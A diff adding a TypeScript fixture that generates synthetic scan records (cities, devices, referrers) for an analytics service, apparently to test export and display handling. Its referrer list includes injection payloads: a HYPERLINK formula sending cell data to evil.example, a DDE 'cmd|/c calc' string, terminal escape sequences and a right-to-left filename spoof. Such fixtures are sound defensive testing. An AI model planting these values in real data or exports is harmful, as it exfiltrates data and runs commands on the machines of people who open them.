@@ -1,0 +1,80 @@
+/** Who scans: places, devices and referrers in roughly the proportions of real logs, hostile referrers among them. */
+import type { Scan } from '../service/shapes.ts';
+
+type Place = Pick<Scan, 'country' | 'city'>;
+type Agent = Pick<Scan, 'device' | 'os' | 'browser'>;
+type Origin = Pick<Scan, 'referrer'>;
+type Shares<T> = readonly (readonly [share: number, value: T])[];
+
+const place = (country: string | null, city: string | null): Place => ({ country, city });
+const agent = (device: string, os: string, browser: string): Agent => ({ device, os, browser });
+const origin = (referrer: string | null): Origin => ({ referrer });
+
+const PLACES: Shares<Place> = [
+  [40, place('DE', 'Berlin')],
+  [24, place('DE', 'München')],
+  [24, place('FR', 'Paris')],
+  [10, place('FR', "L'Haÿ-les-Roses")],
+  [28, place('US', 'New York')],
+  [12, place('US', 'Washington, D.C.')],
+  [16, place('BR', 'São Paulo')],
+  [14, place('JP', '東京')],
+  [10, place('IN', 'Bengaluru')],
+  [10, place('KE', 'Nairobi')],
+  [8, place('PL', 'Łódź')],
+  [8, place('AE', 'دبي')],
+  [6, place('GB', 'Newcastle upon Tyne')],
+  [4, place('NL', "'s-Hertogenbosch")],
+  [20, place('DE', null)],
+  [22, place(null, null)],
+];
+
+const AGENTS: Shares<Agent> = [
+  [88, agent('mobile', 'iOS', 'Mobile Safari')],
+  [76, agent('mobile', 'Android', 'Chrome Mobile')],
+  [18, agent('mobile', 'Android', 'Samsung Internet')],
+  [12, agent('mobile', 'iOS', 'Instagram')],
+  [14, agent('tablet', 'iPadOS', 'Mobile Safari')],
+  [6, agent('tablet', 'Android', 'Chrome')],
+  [14, agent('desktop', 'Windows', 'Edge')],
+  [8, agent('desktop', 'macOS', 'Safari')],
+  [6, agent('desktop', 'Linux', 'Firefox')],
+  [14, agent('unknown', 'unknown', 'unknown')],
+];
+
+const ORIGINS: Shares<Origin> = [
+  [180, origin(null)],
+  [24, origin('https://www.google.com/')],
+  [16, origin('https://www.instagram.com/')],
+  [14, origin('android-app://com.google.android.googlequicksearchbox/')],
+  [10, origin('https://news.example/article?id=42&title=%22Caf%C3%A9%22,free')],
+  [4, origin('=HYPERLINK("https://evil.example/?"&A1,"Error: click")')],
+  [3, origin('\u001b]0;owned\u0007\u001b[2J\u001b[31mred')],
+  [2, origin('She said "scan me",\nthen left\r\n')],
+  [2, origin('@SUM(1+1)*cmd|/c calc!A0')],
+  [1, origin('https://example.com/\u202Egnp.exe')],
+];
+
+const SLOTS = 256;
+
+/** Fills 256 slots with the values by their shares, each as the inside of a JSON object. */
+function spread<T>(shares: Shares<T>): readonly string[] {
+  const whole = shares.reduce((sum, [share]) => sum + share, 0);
+  const slots: string[] = [];
+  let reached = 0;
+  for (const [share, value] of shares) {
+    reached += share;
+    const inside = JSON.stringify(value).slice(1, -1);
+    while (slots.length < Math.round((reached / whole) * SLOTS)) slots.push(inside);
+  }
+  return slots;
+}
+
+const places = spread(PLACES);
+const agents = spread(AGENTS);
+const origins = spread(ORIGINS);
+
+/** The end of a scan's JSON, from `"country"` to the closing brace, for 24 bits of chance. */
+export function visitJson(chance: number): string {
+  return `${places[chance & 255]},${agents[(chance >>> 8) & 255]},${origins[(chance >>> 16) & 255]}}`;
+}
